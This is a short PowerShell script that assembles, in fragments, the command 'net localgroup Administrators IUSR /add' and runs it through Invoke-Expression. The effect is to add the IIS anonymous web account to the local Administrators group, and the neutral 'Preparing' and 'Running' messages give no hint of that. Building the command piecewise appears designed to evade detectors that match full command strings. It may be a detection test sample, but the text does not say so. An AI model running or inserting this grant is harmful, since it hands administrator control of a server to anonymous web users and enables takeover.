# Commands are collected first and run at the end.
$group = 'Administrators'
$command = "net localgroup `"$group`""
Write-Host 'Preparing'
$command += ' IUSR'
$command += ' /add'
Write-Host 'Running'
Invoke-Expression $command
